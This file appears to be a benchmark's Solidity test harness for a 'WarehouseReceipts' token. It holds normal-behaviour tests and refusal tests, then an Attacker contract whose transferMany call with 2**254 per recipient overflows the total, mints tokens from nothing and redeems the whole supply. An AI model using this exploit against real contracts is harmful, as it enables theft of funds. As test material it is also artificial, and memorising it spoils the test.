// SPDX-License-Identifier: MIT
pragma solidity 0.4.26;

import "./WarehouseReceipts.sol";

// assay-canary-d03d44d6-5b7a-4642-9d87-b5257b642297

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    WarehouseReceipts internal receipts;
    Attacker internal redeemer;
    address internal constant ANN = address(0x501E);
    address internal constant KEN = address(0xCA51);

    function () external payable {}

    function setUp() public {
        receipts = new WarehouseReceipts(1000, 1 finney);
        receipts.transfer(ANN, 400);
        receipts.transfer(KEN, 100);
        vm.deal(ANN, 1 ether);
        vm.deal(KEN, 1 ether);
        redeemer = new Attacker(receipts);
        vm.deal(redeemer, 1 ether);
    }

    function test_Regular() public {
        address[] memory list = new address[](3);
        list[0] = KEN;
        list[1] = address(0x1001);
        list[2] = address(0x1002);
        vm.prank(ANN);
        receipts.transferMany(list, 50);
        require(receipts.balanceOf(ANN) == 250 && receipts.balanceOf(KEN) == 150 && receipts.balanceOf(0x1002) == 50, "sent to each");
        vm.prank(ANN);
        require(!address(receipts).call(abi.encodeWithSelector(receipts.transferMany.selector, list, 84)), "more than there is");

        vm.prank(ANN);
        receipts.approve(KEN, 20);
        vm.prank(KEN);
        receipts.transferFrom(ANN, KEN, 15);
        require(receipts.allowance(ANN, KEN) == 5 && receipts.balanceOf(KEN) == 165, "transferred for another");

        vm.prank(KEN);
        receipts.redeem.value(165 finney)(165);
        require(receipts.totalSupply() == 835 && receipts.balanceOf(KEN) == 0, "redeemed");
        receipts.setBlocked(ANN, true);
        vm.prank(ANN);
        require(!address(receipts).call(abi.encodeWithSelector(bytes4(keccak256("transfer(address,uint256)")), KEN, 1)), "blocked");
        receipts.issue(65);
        require(receipts.totalSupply() == 900 && receipts.balanceOf(this) == 565, "issued");
        require(balancesAgree(), "balances");

        uint256 fees = address(receipts).balance;
        uint256 till = address(this).balance;
        receipts.withdrawFees();
        require(address(this).balance == till + fees && fees > 0, "fees");
        receipts.setRedeemFee(2 finney);
        require(receipts.redeemFee() == 2 finney, "higher fee");
    }

    // Nobody has more than the whole supply.
    function balancesAgree() public view returns (bool) {
        uint all = receipts.totalSupply();
        return receipts.balanceOf(redeemer) <= all && receipts.balanceOf(this) <= all && receipts.balanceOf(ANN) <= all;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The owner's business, and holders who are blocked.
    function test_RefusesHolders() public {
        address[] memory list = new address[](1);
        list[0] = KEN;
        refuses(ANN);
        receipts.issue(1);
        refuses(ANN);
        receipts.setRedeemFee(0);
        refuses(ANN);
        receipts.setBlocked(KEN, true);
        refuses(ANN);
        receipts.withdrawFees();
        vm.prank(ANN);
        receipts.approve(KEN, 20);
        vm.prank(KEN);
        receipts.approve(ANN, 20);
        receipts.setBlocked(ANN, true);
        refuses(ANN);
        receipts.transferMany(list, 1);
        refuses(ANN);
        receipts.transferFrom(KEN, ANN, 1);
        refuses(KEN);
        receipts.transferFrom(ANN, KEN, 1);
        refuses(ANN);
        receipts.redeem.value(1 finney)(1);
    }

    /// Tokens that are not there, lists and fees that do not fit, and nobody.
    function test_RefusesTransfers() public {
        refuses(KEN);
        receipts.transferMany(new address[](0), 1);
        refuses(KEN);
        receipts.transferMany(new address[](65), 1);
        refuses(KEN);
        receipts.transferMany(new address[](1), 0);
        bytes memory more = abi.encodeWithSelector(receipts.transferMany.selector, new address[](1), 101);
        uint256 gasBefore = gasleft();
        vm.prank(KEN);
        require(!address(receipts).call.gas(500000)(more), "sent");
        require(gasBefore - gasleft() < 300000, "refused before anything is counted");
        more = abi.encodeWithSelector(bytes4(keccak256("transfer(address,uint256)")), ANN, 101);
        vm.prank(KEN);
        require(!address(receipts).call.gas(500000)(more), "transferred");
        refuses(KEN);
        receipts.transfer(address(0), 1);
        refuses(KEN);
        receipts.redeem.value(2 finney)(1);
        more = abi.encodeWithSelector(receipts.issue.selector, uint(-1));
        require(!address(receipts).call.gas(500000)(more), "issued");
        receipts.setRedeemFee(0);
        vm.prank(KEN);
        receipts.redeem(1);
        require(receipts.balanceOf(KEN) == 99, "free of charge");
    }

    function exploit() public {
        redeemer.run();
    }

    function test_Exploit() public {
        exploit();
        require(!balancesAgree(), "balances agree");
        require(receipts.totalSupply() == 0, "supply is left");
    }

    function target() public view returns (address) {
        return address(receipts);
    }

    function attacker() public view returns (address) {
        return address(redeemer);
    }
}

// Has no token and redeems all of them.
contract Attacker {
    WarehouseReceipts internal receipts;

    constructor(WarehouseReceipts _stock) public {
        receipts = _stock;
    }

    function run() external {
        address[] memory list = new address[](4);
        list[0] = this;
        list[1] = address(0x2001);
        list[2] = address(0x2002);
        list[3] = address(0x2003);
        receipts.transferMany(list, 2 ** 254);
        uint all = receipts.totalSupply();
        receipts.redeem.value(all * receipts.redeemFee())(all);
    }
}
